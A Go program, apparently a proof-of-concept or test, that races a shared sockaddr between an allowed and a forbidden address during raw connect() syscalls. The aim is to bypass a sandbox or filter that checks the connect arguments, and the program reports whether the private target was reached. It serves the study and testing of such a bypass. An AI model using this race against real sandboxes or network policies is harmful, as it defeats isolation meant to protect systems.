package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// work is the worker, which attacks.
func work(offered, private string) {
	for _, to := range []string{offered, private} {
		word, err := dial(to)
		fmt.Printf("connect: %q, refused: %v\n", word, err != nil)
	}
	flipping := flip(offered, private)
	seen := map[string]int{}
	for range 2000 {
		seen[readFrom(&flipping.addr)]++
	}
	flipping.done.Store(true)
	fmt.Printf("while the address changes: offered %v, private %v\n", seen["offered"] > 0,
		seen["private"] > 0)
}

func dial(to string) (string, error) {
	conn, err := net.Dial("tcp", to)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	word, err := io.ReadAll(conn)
	return string(word), err
}

// sockaddr is a struct sockaddr_in; the first word has the port.
type sockaddr [2]uint64

func sockaddrOf(text string) sockaddr {
	to := netip.MustParseAddrPort(text)
	var b [16]byte
	binary.NativeEndian.PutUint16(b[:], unix.AF_INET)
	binary.BigEndian.PutUint16(b[2:], to.Port())
	ip := to.Addr().As4()
	copy(b[4:], ip[:])
	return sockaddr{binary.NativeEndian.Uint64(b[:]), binary.NativeEndian.Uint64(b[8:])}
}

// flipping is an address that another thread changes all the time.
type flipping struct {
	addr sockaddr
	done atomic.Bool
}

func flip(one, other string) *flipping {
	a, b := sockaddrOf(one), sockaddrOf(other)
	f := &flipping{addr: a}
	go func() {
		for !f.done.Load() {
			atomic.StoreUint64(&f.addr[0], b[0])
			atomic.StoreUint64(&f.addr[0], a[0])
		}
	}()
	return f
}

// readFrom connects to what the address is just then, and reads a word.
func readFrom(to *sockaddr) string {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return ""
	}
	defer unix.Close(fd)
	if connect(fd, to) != 0 {
		return ""
	}
	var word [16]byte
	n, _ := unix.Read(fd, word[:])
	return string(word[:max(n, 0)])
}

func connect(fd int, to *sockaddr) unix.Errno {
	_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(to)),
		unsafe.Sizeof(*to))
	return errno
}
